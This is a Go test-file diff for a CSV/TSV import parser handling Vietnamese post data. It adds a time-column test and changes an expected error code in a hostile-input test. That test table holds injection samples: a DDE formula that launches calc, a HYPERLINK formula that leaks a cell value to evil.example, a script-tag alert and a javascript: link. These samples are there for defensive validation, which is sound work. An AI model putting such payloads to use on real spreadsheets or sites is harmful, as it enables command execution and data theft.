@@ -100,6 +100,15 @@ func TestParseEnglishCSV(t *testing.T) {
 		t.Errorf("row 2: %+v", f.Rows[1])
 	}
 
+	// A time of its own column; a bad one is refused at its field.
+	csv = "Ngày đăng,Giờ đăng,Nội dung,Liên kết\n" + day(now, 2, 0, 0).Format("02/01/2006") + ",07:45,Họp dân,https://a.vn/1\n" +
+		day(now, 2, 0, 0).Format("02/01/2006") + ",0.75,Họp dân,https://a.vn/2\n" + day(now, 2, 0, 0).Format("02/01/2006") + ",25:99,x,https://a.vn/3\n"
+	f = parse(t, []byte(csv), "gio.csv", Limits{Now: now})
+	if len(f.Rows) != 2 || !f.Rows[0].At.Equal(day(now, 2, 7, 45)) || !f.Rows[1].At.Equal(day(now, 2, 18, 0)) ||
+		len(f.Errors) != 1 || f.Errors[0].Field != "time" || f.Errors[0].Line != 4 {
+		t.Fatalf("a time column: %+v %+v", f.Rows, f.Errors)
+	}
+
 	// Excel's "Unicode text": UTF-16LE with a BOM, tab-separated.
 	tsv := "Ngày\tNội dung\tLiên kết\r\n" + day(now, 1, 7, 0).Format("02/01/2006 15:04") + "\tChào mừng\thttps://zalo.me/s/9\r\n"
 	var u16 []byte
@@ -167,7 +176,7 @@ func TestHostileInput(t *testing.T) {
 	rows := []struct {
 		row, field, code string
 	}{
-		{d + ",=cmd|' /C calc'!A0,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"", "link", "link_invalid"},
+		{d + ",=cmd|' /C calc'!A0,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"", "link", "link_host"},
 		{d + ",<script>alert(1)</script>,javascript:alert(1)", "link", "link_scheme"},
 		{d + "," + strings.Repeat("a", 101) + ",https://a.vn/1", "text", "cell_long"},
 		{d + ",a\x00b,https://a.vn/2", "text", "cell_nul"},
